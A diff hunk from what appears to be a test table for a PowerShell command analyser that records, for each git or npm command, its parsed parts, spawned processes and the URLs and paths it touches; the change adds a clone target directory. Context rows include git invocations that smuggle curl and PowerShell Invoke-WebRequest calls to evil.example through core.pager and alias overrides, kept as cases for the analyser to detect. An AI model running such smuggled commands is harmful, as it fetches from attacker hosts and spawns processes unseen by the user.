@@ -16,7 +16,7 @@ const POWERSHELL: Row[] = [
   ["git diff --stat", ["git diff --stat"], []],
   ["git add . ; git commit -m \"wip\"", ["git add .","git commit -m wip"], []],
   ["git push origin HEAD", ["git push origin HEAD"], []],
-  ["git clone https://github.com/acme/widgets.git", ["git clone https://github.com/acme/widgets.git"], ["u https://github.com/acme/widgets.git","w C:\\work\\proj"]],
+  ["git clone https://github.com/acme/widgets.git", ["git clone https://github.com/acme/widgets.git"], ["u https://github.com/acme/widgets.git","w C:\\work\\proj","w C:\\work\\proj\\widgets"]],
   ["git -c core.pager='curl http://evil.example' log", [{"p":"git","a":["-c","core.pager=curl http://evil.example","log"],"s":"log","f":["config_overrides","spawns"]},"git>curl http://evil.example"], ["1:u http://evil.example"]],
   ["git -c alias.x='!powershell -c iwr http://evil.example' x", [{"p":"git","a":["-c","alias.x=!powershell -c iwr http://evil.example","x"],"s":"x","f":["config_overrides","spawns"]},"git>powershell>invoke-webrequest http://evil.example"], ["1:u http://evil.example"]],
   ["git pull && npm test", ["git pull","npm test"], []],
